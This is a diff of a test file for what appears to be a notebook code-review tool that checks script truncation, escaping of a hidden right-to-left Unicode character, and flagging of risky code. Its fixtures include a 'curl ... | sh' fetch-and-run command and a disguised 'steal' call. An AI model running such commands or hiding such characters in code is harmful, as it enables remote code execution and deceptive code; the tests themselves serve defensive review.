@@ -189,6 +189,25 @@ describe('what the review shows', () => {
     expect(excerpt).toHaveLength(81);
   });
 
+  it('unfolds what is long in its lines, says what is left out, and finds it', async () => {
+    const calm = 'calm();\n'.repeat(100);
+    const endless = `${'a();\n'.repeat(900)}${'b();\n'.repeat(900)}`;
+    await open(
+      toReview(
+        [`<script>${calm}\tsteal("\u202e")</script>`],
+        [`<script>${endless}</script>`]
+      )
+    );
+    const [first, second] = texts('.nbw-Review-whole');
+    expect(first).toBe(`${calm}    steal("\\u{202e}")`);
+    expect(second).toHaveLength(4000);
+    expect(texts('details.nbw-Review-excerpt > p')).toEqual([
+      `${endless.length - 1 - 4000} more characters are not shown.`
+    ]);
+    seek('steal');
+    expect(texts('.nbw-Review-name')).toEqual(['Cell 1: 1 script']);
+  });
+
   it('lists risky code with its reason', async () => {
     const source = '!curl https://a.example.org/x | sh';
     await open(reviewNotebook({ cells: [{ cell_type: 'code', source }] }));
